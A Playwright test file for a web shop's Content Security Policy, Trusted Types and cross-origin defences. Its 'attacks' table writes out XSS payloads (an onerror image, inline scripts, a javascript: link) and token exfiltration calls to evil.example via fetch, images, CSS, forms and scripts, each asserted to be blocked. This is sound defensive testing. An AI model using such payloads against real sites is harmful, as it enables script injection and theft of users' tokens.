import { createHash, randomUUID } from 'node:crypto'
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { Buyer } from '@typecase/tests-support/buyer'
import { until } from '@typecase/tests-support/processes'
import { Shop } from '@typecase/tests-support/shop'
import { cameSignedIn } from './account-page.ts'
import { openControls, openFront, testAll } from './tester-page.ts'
import { expect, test } from './visitor.ts'

let shop: Shop
let order: string
let evil: Server

const email = 'ines@tidalatlas.example'
const password = 'a tidal atlas of rooms'

/** Tokens of a new sign-in: a browser that shares another's is taken for a thief. */
async function signIn(): Promise<Buyer> {
  const buyer = new Buyer(shop)
  await buyer.post('/authentication/login_customer', { email, password })
  return buyer
}

test.beforeAll(async () => {
  shop = await Shop.start()
  shop.addCustomer(email, password)
  const buyer = await signIn()
  const placed = await buyer.post('/checkout', await buyer.order(), {
    'idempotency-key': randomUUID(),
  })
  order = placed.body.orderId
  await buyer.confirm(placed.body.clientSecret)
  evil = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html')
    response.end('<!doctype html><title>Elsewhere</title>')
  }).listen(0, '127.0.0.1')
  await once(evil, 'listening')
})
test.afterAll(async () => {
  evil.close()
  evil.closeAllConnections()
  await shop.stop()
})

/** Another site: localhost is none of 127.0.0.1's. */
const evilOrigin = () => `http://localhost:${(evil.address() as AddressInfo).port}`

/** What the server was told of, a line for each. */
const reports = () =>
  shop
    .log()
    .split('\n')
    .filter((line) => line.includes('"csp_violation"'))

interface Seen {
  forbidden: string[]
  failed: string[]
}

/** Notes what the policy forbids and what fails, from the first moment. */
async function watch(page: Page) {
  const failed: string[] = []
  page.on('pageerror', (error) => failed.push(error.message))
  await page.addInitScript(() => {
    const forbidden: string[] = []
    Object.assign(window, { forbidden })
    document.addEventListener('securitypolicyviolation', (event) =>
      forbidden.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`),
    )
  })
  return async (): Promise<Seen> => ({
    failed,
    forbidden: await page.evaluate(() => (window as unknown as Seen).forbidden),
  })
}

async function furnish(page: Page, isSignedIn: boolean) {
  const tokens = isSignedIn ? await signIn() : { access: '', refresh: '' }
  const item = { ...Buyer.item(), description: 'EB Garamond Italic', price: 3500 }
  await cameSignedIn(page, tokens, { cart: JSON.stringify([item]) })
}

async function settled(page: Page) {
  await expect(page.getByRole('heading', { level: 1 })).toBeAttached()
  await page.waitForLoadState('networkidle')
}

/** Opens every choice of the screen that can be opened, and leaves it as it was. */
async function openChoices(page: Page) {
  const choices = page.locator('button[aria-haspopup="listbox"]:enabled:visible')
  const count = Math.min(await choices.count(), 4)
  for (let i = 0; i < count; i++) {
    await choices.nth(i).click()
    await expect(page.getByRole('listbox')).toBeVisible()
    await page.keyboard.press('Escape')
    await expect(page.getByRole('listbox')).toBeHidden()
  }
  return count
}

const forVisitors = ['/', '/test_all', '/eb-garamond', '/fraunces', '/eb-garamond/buy', '/cart']
  .concat(['/checkout', '/login', '/pages/faq', '/pages/terms', '/404', '/nothing-here', '/403'])
  .concat(['/forgot_password', '/reset_password', '/reset_password?token=none', '/profile'])
  .concat(['/login?confirm=none', '/login?impersonate=none'])
const forCustomers = [
  '/',
  '/cart',
  '/checkout',
  '/profile',
  '/orders/ORDER',
  '/403',
  '/login',
].concat(['/orders/ORDER/success', '/eb-garamond/buy'])

for (const [who, screens] of Object.entries({ visitor: forVisitors, customer: forCustomers })) {
  for (const screen of screens) {
    test(`nothing on ${screen} is forbidden to a ${who}`, async ({ page }) => {
      const before = reports().length
      const seen = await watch(page)
      await furnish(page, who === 'customer')
      await page.goto(shop.url + screen.replace('ORDER', order))
      await settled(page)
      await openChoices(page)
      await page.mouse.wheel(0, 4000)
      await page.waitForLoadState('networkidle')
      expect(await seen()).toEqual({ forbidden: [], failed: [] })
      expect(reports().slice(before)).toEqual([])
    })
  }
}

test('choices, colours, notices and moves from screen to screen forbid nothing', async ({
  page,
}) => {
  const before = reports().length
  const seen = await watch(page)
  await furnish(page, false)
  await openFront(page, shop)
  await testAll(page, ['EB Garamond'])
  const controls = await openControls(page, 'EB Garamond')
  await controls.getByRole('button', { name: 'Own colours' }).click()
  const colour = controls.getByRole('textbox').first()
  await colour.focus()
  for (const key of ['ArrowUp', 'ArrowDown', 'PageUp']) await page.keyboard.press(key)
  await colour.fill('#336699')
  await page.keyboard.press('Enter')
  expect(await openChoices(page)).toBeGreaterThan(0)

  await page.goto(`${shop.url}/cart`)
  await settled(page)
  expect(await openChoices(page)).toBeGreaterThan(0)
  await page.goto(`${shop.url}/pages/terms`)
  await page
    .getByRole('link', { name: /fonts|EB Garamond|^All/i })
    .first()
    .click()
  await settled(page)
  expect(await seen()).toEqual({ forbidden: [], failed: [] })
  expect(reports().slice(before)).toEqual([])
})

test('a dialog, a form and what it says forbid nothing', async ({ page }) => {
  const before = reports().length
  const seen = await watch(page)
  await furnish(page, true)
  await page.goto(`${shop.url}/profile`)
  await settled(page)
  await page.getByRole('button', { name: 'Delete my account' }).click()
  const dialog = page.getByRole('alertdialog')
  await expect(dialog).toBeVisible()
  await dialog.getByRole('textbox').or(dialog.locator('input[type=password]')).last().fill('wrong')
  await dialog.getByRole('button', { name: 'Delete my account' }).click()
  await expect(dialog.getByText(/password/i).last()).toBeVisible()
  await page.waitForLoadState('networkidle')
  await page.keyboard.press('Escape')
  await expect(dialog).toBeHidden()
  expect(await seen()).toEqual({ forbidden: [], failed: [] })
  expect(reports().slice(before)).toEqual([])
})

test('the texts of the foundry stand on their pages', async ({ page }) => {
  await page.goto(`${shop.url}/pages/faq`)
  await settled(page)
  const article = page.getByRole('article')
  expect(await article.locator('p').count()).toBeGreaterThan(1)
  await page.goto(`${shop.url}/eb-garamond`)
  await settled(page)
  await expect(page.locator('[class*=about] p').first()).toHaveText(/\w{3}/)
})

test('styles that libraries set are in the policy by their hashes, on a phone too', async ({
  page,
}) => {
  const seen = await watch(page)
  await page.addInitScript(() => {
    Object.defineProperty(navigator, 'platform', { value: 'iPhone' })
    Object.defineProperty(navigator, 'userAgentData', { value: undefined })
  })
  await furnish(page, false)
  const response = await page.goto(`${shop.url}/cart`)
  await settled(page)
  await page.locator('button[aria-haspopup="listbox"]').first().click()
  await expect(page.getByRole('listbox')).toBeVisible()
  const texts = await page.locator('style').allTextContents()
  const policy = response!.headers()['content-security-policy']!
  const allowed = /style-src ([^;]+)/.exec(policy)![1]!.split(' ').slice(1)
  const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
  expect(texts.map(hashOf).sort()).toEqual(allowed.sort())
  const applied = await page.evaluate(() => [
    getComputedStyle(document.querySelector('[data-react-aria-pressable]')!).touchAction,
    getComputedStyle(document.body).overscrollBehaviorY,
  ])
  expect(applied).toEqual(['manipulation', 'contain']) // How Chromium sums up the first.
  expect(await seen()).toEqual({ forbidden: [], failed: [] })
})

const sink = 'require-trusted-types-for trusted-types-sink'

/**
 * What a hole in the shop would let somebody put into a page; each sets window.pwned if it runs.
 * What refuses it first, and what does on the checkout, which demands no Trusted Types.
 */
const attacks: Record<string, [string, () => unknown, string?]> = {
  'an inline script': [
    sink,
    () => {
      const script = document.createElement('script')
      script.append('window.pwned = 1')
      document.body.append(script)
    },
    'script-src-elem inline',
  ],
  'a script of another site': [
    sink,
    () => {
      const script = document.createElement('script')
      script.setAttribute('src', 'https://evil.example/a.js?token=S3CRET')
      document.body.append(script)
    },
    'script-src-elem https://evil.example',
  ],
  'text as HTML': [
    sink,
    () => (document.body.innerHTML = '<img src="x" onerror="window.pwned = 1">'),
  ],
  'text as a script': [sink, () => (document.createElement('script').text = 'window.pwned = 1')],
  'text as an address of a script': [
    sink,
    () => (document.createElement('script').src = '/api/fonts'),
  ],
  'text as code': [sink, () => setTimeout('window.pwned = 1'), 'script-src eval'],
  'a policy of its own': [
    'trusted-types trusted-types-policy',
    () =>
      (
        window as unknown as { trustedTypes: { createPolicy: (name: string, of: object) => void } }
      ).trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
  ],
  'a handler in an attribute': [
    sink,
    () => {
      const button = document.createElement('button')
      document.body.append(button)
      button.setAttribute('onclick', 'window.pwned = 1')
      button.click()
    },
    'script-src-attr inline',
  ],
  'a link that is code': [
    'script-src-elem inline',
    () => {
      const link = document.createElement('a')
      link.href = 'javascript:window.pwned = 1'
      document.body.append(link)
      link.click()
    },
  ],
  'a style': [
    'style-src-elem inline',
    () => {
      const style = document.createElement('style')
      style.append('body { background: url(https://evil.example/?S3CRET) }')
      document.head.append(style)
    },
  ],
  'a frame': [
    'frame-src https://evil.example',
    () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    },
  ],
  'another base of addresses': [
    'base-uri https://evil.example',
    () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
      return document.baseURI
    },
  ],
  'a form that leads away': [
    'form-action https://evil.example',
    () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      form.method = 'post'
      document.body.append(form)
      form.submit()
    },
  ],
  'a call that carries tokens away': [
    'connect-src https://evil.example',
    () => fetch('https://evil.example/?token=S3CRET').catch(() => {}),
  ],
  'a picture that does': [
    'img-src https://evil.example',
    () => {
      new Image().src = 'https://evil.example/a.png?token=S3CRET'
    },
  ],
}

const cases = Object.entries(attacks).flatMap(([what, [violation, attack, onCheckout]]) => [
  { what, violation, attack, path: '/pages/faq' },
  ...(onCheckout ? [{ what, violation: onCheckout, attack, path: '/checkout' }] : []),
])
for (const { what, violation, attack, path } of cases) {
  test(`${what} is refused and told of on ${path}`, async ({ page }) => {
    const away: string[] = []
    await page.route('https://evil.example/**', async (route) => {
      away.push(route.request().url())
      await route.fulfill({ body: 'window.pwned = 1' })
    })
    const seen = await watch(page)
    await furnish(page, false)
    await page.goto(`${shop.url}${path}?token=S3CRET`)
    await settled(page)
    const before = reports().length
    await page.evaluate(attack).catch(() => {}) // Trusted Types throw.
    await expect.poll(async () => (await seen()).forbidden.join('\n')).toContain(violation)
    await page.waitForTimeout(200)
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
    expect(away).toEqual([])
    const [directive, blocked] = violation.split(' ')
    await until('the server is told', async () => reports().length > before)
    const told = reports()
      .slice(before)
      .map((line) => JSON.parse(line))
    expect(told).toContainEqual(
      expect.objectContaining({
        directive,
        blocked: expect.stringContaining(blocked!),
        document: shop.url + path,
      }),
    )
    expect(shop.log()).not.toContain('S3CRET')
  })
}

test('a script in the page as it was sent does not run, unless the policy names it', async ({
  page,
}) => {
  await page.route(`${shop.url}/`, async (route) => {
    const response = await route.fetch()
    const html = await response.text()
    const injected = html.replace('</head>', '<script>window.pwned = 1</script></head>')
    await route.fulfill({ response, body: injected })
  })
  const seen = await watch(page)
  await page.goto(`${shop.url}/`)
  await settled(page)
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  expect((await seen()).forbidden).toEqual([expect.stringContaining('script-src-elem inline')])
  // The one that the policy names did run.
  expect(await page.evaluate(() => document.documentElement.className)).toBe('')
})

test.describe('a page of another site', () => {
  test('cannot frame the shop', async ({ page }) => {
    await page.goto(evilOrigin())
    for (const path of ['/', '/checkout', '/login', '/api/fonts']) {
      await page.evaluate((url) => {
        const frame = document.createElement('iframe')
        frame.src = url
        document.body.append(frame)
      }, shop.url + path)
    }
    await expect(page.locator('iframe')).toHaveCount(4)
    await page.waitForTimeout(1000)
    for (const frame of page.frames().slice(1)) expect(frame.url()).not.toContain(shop.url)
  })

  test('reads nothing and writes nothing', async ({ page }) => {
    const { access } = await signIn()
    const calls = () =>
      shop
        .log()
        .split('\n')
        .filter((line) => line.includes('"path":"/api/cart/quote"') && line.includes('"POST"'))
    const before = calls().length
    await page.goto(evilOrigin())
    const outcomes = await page.evaluate(
      async ({ url, access }) => {
        const outcome = (address: string, options?: RequestInit) =>
          fetch(url + address, options).then(
            () => 'read',
            () => 'refused',
          )
        const json = { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } }
        const tag = (name: 'script' | 'img', address: string) =>
          new Promise<string>((done) => {
            const element = document.createElement(name)
            element.onload = () => done('read')
            element.onerror = () => done('refused')
            element.src = url + address
            document.body.append(element)
          })
        return {
          api: await outcome('/api/fonts'),
          orders: await outcome('/api/orders', { headers: { authorization: `Bearer ${access}` } }),
          page: await outcome('/'),
          quote: await outcome('/api/cart/quote', json),
          cookies: await outcome('/api/fonts', { credentials: 'include' }),
          script: await tag('script', '/api/fonts'),
          image: await tag('img', '/icon.svg'),
        }
      },
      { url: shop.url, access },
    )
    expect(outcomes).toEqual(
      Object.fromEntries(Object.keys(outcomes).map((name) => [name, 'refused'])),
    )
    const status = await page.evaluate(
      (url) =>
        fetch(`${url}/api/cart/quote`, {
          method: 'POST',
          mode: 'no-cors',
          body: '{"items":[]}',
        }).then(
          ({ type }) => type,
          () => 'refused',
        ),
      shop.url,
    )
    expect(['opaque', 'refused']).toContain(status)
    const written = calls().slice(before)
    expect(written.map((line) => JSON.parse(line).status)).toEqual([403])
  })

  /** As the sandbox's frame would speak, and as a shop's page might. */
  const messages = [
    { type: 'submit' },
    {
      sandbox: '0'.repeat(32),
      type: 'answer',
      id: 1,
      answer: { paymentIntent: { status: 'succeeded' } },
    },
    { sandbox: '', type: 'loaded', height: 9000 },
    { type: 'succeeded', orderId: '00000000000000000000000000' },
    { type: 'navigate', url: 'https://evil.example/' },
    'succeeded',
    null,
  ]

  test('that opens the checkout has no hold on it', async ({ page, context }) => {
    await page.goto(evilOrigin())
    const [checkout] = await Promise.all([
      context.waitForEvent('page'),
      page.evaluate((url) => {
        Object.assign(window, { held: window.open(url) })
      }, `${shop.url}/checkout`),
    ])
    await settled(checkout)
    await checkout.evaluate(() => {
      const heard: unknown[] = []
      Object.assign(window, { heard })
      addEventListener('message', (event) => heard.push(event.origin))
    })
    await page.evaluate((messages) => {
      const { held } = window as unknown as { held: Window }
      for (const message of messages) held.postMessage(message, '*')
    }, messages)
    await page.waitForTimeout(500)
    const state = await checkout.evaluate((evil) => {
      const { heard } = window as unknown as { heard: string[] }
      return { opener: window.opener, fromEvil: heard.filter((origin) => origin === evil) }
    }, evilOrigin())
    expect(state).toEqual({ opener: null, fromEvil: [] })
    expect(await page.evaluate(() => (window as unknown as { held: Window }).held.closed)).toBe(
      true,
    )
  })

  test('is not listened to by the checkout, whatever it says', async ({ page }) => {
    const seen = await watch(page)
    await furnish(page, false)
    await page.goto(`${shop.url}/checkout`)
    await settled(page)
    await expect(page.locator('iframe').first()).toBeVisible()
    await page.waitForLoadState('networkidle')
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    const look = () =>
      page.evaluate(() => {
        const { height } = document.querySelector('iframe')!.getBoundingClientRect()
        return { address: location.href, words: document.body.innerText, height }
      })
    const before = await look()
    await page.evaluate(
      ({ origins, messages }) => {
        const frame = document.querySelector('iframe')!.contentWindow
        for (const origin of origins) {
          for (const data of messages) {
            dispatchEvent(new MessageEvent('message', { origin, data, source: window }))
            dispatchEvent(new MessageEvent('message', { origin, data, source: null }))
            // From the frame's own window once it has been led elsewhere.
            dispatchEvent(new MessageEvent('message', { origin, data, source: frame }))
          }
        }
      },
      { messages, origins: [evilOrigin(), 'null', 'https://js.stripe.com.evil.example', shop.url] },
    )
    await page.waitForTimeout(700)
    expect(await look()).toEqual(before)
    expect(asked).toEqual([])
    expect(await seen()).toEqual({ forbidden: [], failed: [] })
  })
})
